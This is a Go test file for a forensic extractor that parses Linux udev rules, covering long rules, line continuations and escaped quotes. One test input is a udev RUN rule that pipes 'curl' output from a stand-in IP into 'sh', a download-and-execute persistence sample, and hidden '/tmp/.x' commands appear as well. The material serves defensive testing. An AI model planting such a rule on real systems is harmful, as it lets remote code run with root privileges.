package udev

import (
	"strings"
	"testing"

	"icecore/forensics/artifact/artifacttest"
)

func TestGolden(t *testing.T) { artifacttest.Golden(t, Extractor{}, "debian") }

func FuzzExtract(f *testing.F) {
	artifacttest.Fuzz(f, Extractor{}, "/etc/udev/rules.d/99-x.rules")
}

// TestLongRule: every command of a rule is read, and of one that is continued without end
// the beginning, which is said.
func TestLongRule(t *testing.T) {
	text := `ACTION=="add", ` + strings.Repeat(`RUN+="/bin/true", `, 150) + `RUN+="/tmp/.x/run"` + "\n"
	records, err := artifacttest.Extract(t, Extractor{}, artifacttest.File{Path: "/etc/udev/rules.d/x.rules", Text: text})
	if err != nil || len(records) != 151 || records[150].Get("command") != "/tmp/.x/run" {
		t.Errorf("%d records, %v", len(records), err)
	}
	text = `ACTION=="add", ` + strings.Repeat(strings.Repeat("x", 1<<16)+"\\\n", 40) + `RUN+="/tmp/.x/run"` + "\n" + `RUN+="/tmp/.y/run"`
	records, err = artifacttest.Extract(t, Extractor{}, artifacttest.File{Path: "/etc/udev/rules.d/x.rules", Text: text})
	if err == nil || len(records) != 1 || records[0].Get("command") != "/tmp/.y/run" {
		t.Errorf("%s%v", artifacttest.Lines(records), err)
	}
}

// TestQuotes: quotes that are escaped within a value belong to the command.
func TestQuotes(t *testing.T) {
	records, err := artifacttest.Extract(t, Extractor{}, artifacttest.File{Path: "/etc/udev/rules.d/x.rules", Text: `RUN+="/bin/sh -c \"curl http://192.0.2.1/i \| sh\""` + "\n"})
	if err != nil || len(records) != 1 || !strings.HasPrefix(records[0].Get("command"), `/bin/sh -c "curl `) {
		t.Errorf("%s%v", artifacttest.Lines(records), err)
	}
}
